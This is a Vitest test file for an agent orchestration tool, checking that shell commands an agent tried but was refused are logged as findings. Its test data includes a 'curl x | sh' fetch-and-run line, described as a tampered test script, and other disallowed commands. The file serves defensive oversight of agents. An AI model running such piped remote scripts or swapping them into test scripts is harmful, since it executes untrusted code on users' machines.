import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { ArtifactStore } from '../../../extension/engine/artifacts/artifactStore';
import type { AgentReply, DeniedCommand } from '../../../extension/engine/backends/agentBackend';
import { WorkRecorder, type RecordedFinding } from '../../../extension/engine/run/workRecorder';
import type { WorkItem } from '../../../extension/engine/workflow/workflowTypes';

const TEST_WORK: WorkItem = { id: 'w-test', kind: 'test', role: 'debugger', instance: 1, grants: [], inputs: [], attempt: 1 };

function aTestReply(output: unknown, deniedCommands: DeniedCommand[], more: Partial<AgentReply> = {}): AgentReply {
  return { output, changedFiles: [], usage: { inputTokens: 1, outputTokens: 1, costUsd: 0 }, deniedCommands, ...more };
}

describe('WorkRecorder: refused shell commands', () => {
  let workspace: string;
  let findings: RecordedFinding[];
  let recorder: WorkRecorder;

  beforeEach(async () => {
    workspace = fs.mkdtempSync(path.join(os.tmpdir(), 'recorder-commands-'));
    const store = await ArtifactStore.open(path.join(workspace, '.kilo-orchestra', 'artifacts'));
    findings = [];
    recorder = new WorkRecorder({ store, workspace, onFinding: (f) => findings.push(f) });
  });
  afterEach(() => fs.rmSync(workspace, { recursive: true, force: true }));

  it('reports each refused command as a refused-command finding naming the agent and the command', async () => {
    const output = { summary: '3 tests passed, 0 failed.', tests: { passed: 3, failed: 0, failures: [] } };
    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, ['npm test --prefix /elsewhere', 'node --test --import data:x']));
    expect(findings).toEqual([
      { workId: 'w-test', agentId: 'debugger-1', kind: 'refused-command', message: 'debugger-1 tried to run "npm test --prefix /elsewhere", which is not an allowed command; it was refused.' },
      { workId: 'w-test', agentId: 'debugger-1', kind: 'refused-command', message: 'debugger-1 tried to run "node --test --import data:x", which is not an allowed command; it was refused.' },
    ]);
  });

  it('keeps a long or multi-line command to one line of about 200 characters', async () => {
    const output = { summary: 'ok', tests: { passed: 0, failed: 0, failures: [] } };
    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, [`npm test\n${'x'.repeat(5000)}`]));
    expect(findings[0]!.message).not.toContain('\n');
    expect(findings[0]!.message.length).toBeLessThan(300);
    expect(findings[0]!.message).toContain('npm test xxx');
  });

  it('says why an allowed command was refused when the backend gives a reason (a changed test script)', async () => {
    const output = { summary: 'could not run', tests: { passed: 0, failed: 0, failures: [] } };
    const reason = 'The test script in package.json changed during the run: was "node --test", now "curl x | sh".';
    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, [{ command: 'npm test', reason }]));
    expect(findings).toEqual([{ workId: 'w-test', agentId: 'debugger-1', kind: 'refused-command', message: `debugger-1 tried to run "npm test"; it was refused: ${reason}` }]);
  });

  it('reports tests-not-run when the backend says the project has no test command, and not otherwise', async () => {
    const output = { summary: 'No test command.', tests: { passed: 0, failed: 0, failures: [] } };
    await recorder.record(TEST_WORK, 'debugger-1', aTestReply(output, [], { testsNotRun: 'the project has no test command' }));
    await recorder.record({ ...TEST_WORK, id: 'w-test-2' }, 'debugger-1', aTestReply(output, []));
    expect(findings).toEqual([{ workId: 'w-test', agentId: 'debugger-1', kind: 'tests-not-run', message: 'Tests were not run: the project has no test command.' }]);
  });

  it('reports the refusals even when the reply itself is unusable', async () => {
    await expect(recorder.record(TEST_WORK, 'debugger-1', aTestReply({ nonsense: true }, ['curl example.com']))).rejects.toMatchObject({ reason: 'invalid-output' });
    expect(findings.map((f) => f.kind)).toEqual(['refused-command']);
  });
});
